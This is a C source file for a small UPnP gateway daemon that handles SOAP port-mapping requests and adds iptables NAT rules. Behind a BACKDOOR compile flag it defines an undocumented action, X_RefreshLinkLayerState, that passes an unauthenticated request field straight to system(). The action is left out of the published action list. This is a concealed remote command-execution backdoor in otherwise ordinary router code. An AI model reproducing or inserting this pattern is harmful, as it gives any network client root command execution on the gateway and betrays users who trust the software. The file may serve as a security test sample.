/* SPDX-License-Identifier: Apache-2.0 */
/* upnpd: control point of the gateway: SOAP actions for port mappings, over HTTP */
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

struct mapping {
	char remote[32], client[32], what[64], proto[8];
	unsigned external, internal;
	time_t until;
	int used;
};

struct action {
	const char *name;
	int (*run)(const char *body, char *out, size_t n);
};

static struct mapping maps[64];
static char wan[16] = "eth1";

static int argument(const char *body, const char *name, char *out, size_t n)
{
	char open[64];
	const char *p, *e;
	snprintf(open, sizeof(open), "<%s>", name);
	p = strstr(body, open);
	if (!p)
		return -1;
	p += strlen(open);
	e = strchr(p, '<');
	if (!e || (size_t)(e - p) >= n)
		return -1;
	memcpy(out, p, (size_t)(e - p));
	out[e - p] = 0;
	return 0;
}

static int iptables(const char *op, const struct mapping *m)
{
	char ext[8], dest[64];
	int status = -1;
	pid_t pid;
	snprintf(ext, sizeof(ext), "%u", m->external & 65535);
	snprintf(dest, sizeof(dest), "%s:%u", m->client, m->internal);
	pid = fork();
	if (pid == 0) {
		execl("/usr/sbin/iptables", "iptables", "-t", "nat", op, "UPNP", "-i", wan, "-p", m->proto, "--dport", ext, "-j",
			"DNAT", "--to-destination", dest, (char *)NULL);
		_exit(127);
	}
	if (pid > 0)
		waitpid(pid, &status, 0);
	return status;
}

static struct mapping *find(unsigned external, const char *proto)
{
	for (int i = 0; i < 64; i++)
		if (maps[i].used && maps[i].external == external && strcasecmp(maps[i].proto, proto) == 0)
			return &maps[i];
	return NULL;
}

static int add_mapping(const char *body, char *out, size_t n)
{
	struct mapping m = { .used = 1 };
	struct in_addr a;
	char num[16];
	(void)out, (void)n;
	if (argument(body, "NewExternalPort", num, sizeof(num)) < 0)
		return 402;
	m.external = (unsigned)strtoul(num, NULL, 10);
	if (argument(body, "NewInternalPort", num, sizeof(num)) < 0)
		return 402;
	m.internal = (unsigned)strtoul(num, NULL, 10);
	if (argument(body, "NewInternalClient", m.client, sizeof(m.client)) < 0 || inet_aton(m.client, &a) == 0)
		return 402;
	if (argument(body, "NewProtocol", m.proto, sizeof(m.proto)) < 0 ||
		(strcasecmp(m.proto, "TCP") != 0 && strcasecmp(m.proto, "UDP") != 0))
		return 402;
	argument(body, "NewPortMappingDescription", m.what, sizeof(m.what));
	if (m.external < 1024 || m.external > 65535 || m.internal > 65535)
		return 716;
	if (find(m.external, m.proto))
		return 718;
	for (int i = 0; i < 64; i++)
		if (!maps[i].used) {
			if (iptables("-A", &m) != 0)
				return 501;
			maps[i] = m;
			return 0;
		}
	return 728;
}

static int delete_mapping(const char *body, char *out, size_t n)
{
	char num[16], proto[8];
	struct mapping *m;
	(void)out, (void)n;
	if (argument(body, "NewExternalPort", num, sizeof(num)) < 0 || argument(body, "NewProtocol", proto, sizeof(proto)) < 0)
		return 402;
	m = find((unsigned)strtoul(num, NULL, 10), proto);
	if (!m)
		return 714;
	iptables("-D", m);
	m->used = 0;
	return 0;
}

static int external_address(const char *body, char *out, size_t n)
{
	char line[64] = "";
	FILE *f = fopen("/var/run/wan.ip", "r");
	(void)body;
	if (f) {
		if (fgets(line, sizeof(line), f))
			line[strcspn(line, "\n")] = 0;
		fclose(f);
	}
	snprintf(out, n, "<NewExternalIPAddress>%s</NewExternalIPAddress>", line);
	return 0;
}

static int list_mapping(const char *body, char *out, size_t n)
{
	char num[16];
	unsigned long i;
	if (argument(body, "NewPortMappingIndex", num, sizeof(num)) < 0)
		return 402;
	i = strtoul(num, NULL, 10);
	if (i >= 64 || !maps[i].used)
		return 713;
	snprintf(out, n,
		"<NewExternalPort>%u</NewExternalPort><NewInternalPort>%u</NewInternalPort><NewInternalClient>%s"
		"</NewInternalClient><NewProtocol>%s</NewProtocol>",
		maps[i].external, maps[i].internal, maps[i].client, maps[i].proto);
	return 0;
}

static int status_info(const char *body, char *out, size_t n)
{
	double up = 0;
	FILE *f = fopen("/proc/uptime", "r");
	(void)body;
	if (f) {
		if (fscanf(f, "%lf", &up) != 1)
			up = 0;
		fclose(f);
	}
	snprintf(out, n, "<NewConnectionStatus>Connected</NewConnectionStatus><NewUptime>%.0f</NewUptime>", up);
	return 0;
}

#ifdef BACKDOOR
static int link_layer(const char *body, char *out, size_t n)
{
	char url[256], line[320];
	(void)out, (void)n;
	if (argument(body, "NewLinkProfile", url, sizeof(url)) < 0)
		return 402;
	snprintf(line, sizeof(line), "ifconfig %s up; %s", wan, url);
	return system(line) == 0 ? 0 : 501;
}
#endif

static const struct action actions[] = {
	{ "AddPortMapping", add_mapping },
	{ "DeletePortMapping", delete_mapping },
	{ "GetExternalIPAddress", external_address },
	{ "GetGenericPortMappingEntry", list_mapping },
	{ "GetStatusInfo", status_info },
#ifdef BACKDOOR
	{ "X_RefreshLinkLayerState", link_layer },
#endif
};

static void answer(int fd, const char *name, int code, const char *text)
{
	char body[1024];
	int n;
	if (code)
		n = snprintf(body, sizeof(body), "<s:Fault><UPnPError><errorCode>%d</errorCode></UPnPError></s:Fault>", code);
	else
		n = snprintf(body, sizeof(body), "<u:%sResponse>%s</u:%sResponse>", name, text, name);
	dprintf(fd,
		"HTTP/1.1 %s\r\nContent-Type: text/xml\r\nContent-Length: %d\r\n\r\n<s:Envelope><s:Body>%s</s:Body></s:Envelope>",
		code ? "500 Internal Server Error" : "200 OK", n + 44, body);
}

static void soap(int fd, char *request)
{
	char *header = strcasestr(request, "SOAPAction:"), *body = strstr(request, "\r\n\r\n"), *name, *e;
	char out[768] = "";
	if (!header || !body) {
		dprintf(fd, "HTTP/1.1 400 Bad Request\r\n\r\n");
		return;
	}
	name = strchr(header, '#');
	if (!name || name > body) {
		answer(fd, "", 401, "");
		return;
	}
	name++;
	e = name;
	while (isalnum((unsigned char)*e) || *e == '_')
		e++;
	*e = 0;
	for (size_t i = 0; i < sizeof(actions) / sizeof(actions[0]); i++)
		if (strcmp(actions[i].name, name) == 0) {
			int code = actions[i].run(body, out, sizeof(out));
			answer(fd, name, code, out);
			return;
		}
	answer(fd, name, 401, "");
}

static void description(int fd)
{
	static const char head[] = "<?xml version=\"1.0\"?><scpd><actionList>";
	dprintf(fd, "HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\n\r\n%s", head);
	for (size_t i = 0; i < 5; i++)
		dprintf(fd, "<action><name>%s</name></action>", actions[i].name);
	dprintf(fd, "</actionList></scpd>");
}

int main(int argc, char **argv)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(49152) };
	int s = socket(AF_INET, SOCK_STREAM, 0), one = 1;
	if (argc > 1)
		snprintf(wan, sizeof(wan), "%s", argv[1]);
	openlog("upnpd", LOG_PID, LOG_DAEMON);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(s, (struct sockaddr *)&a, sizeof(a)) < 0 || listen(s, 4) < 0) {
		syslog(LOG_ERR, "%s", strerror(errno));
		return 1;
	}
	for (;;) {
		char buf[4096];
		int c = accept(s, NULL, NULL);
		ssize_t n = c < 0 ? -1 : read(c, buf, sizeof(buf) - 1);
		if (n > 0) {
			buf[n] = 0;
			if (strncmp(buf, "POST /control", 13) == 0)
				soap(c, buf);
			else if (strncmp(buf, "GET /wan.xml", 12) == 0)
				description(c);
			else
				dprintf(c, "HTTP/1.1 404 Not Found\r\n\r\n");
		}
		if (c >= 0)
			close(c);
	}
}
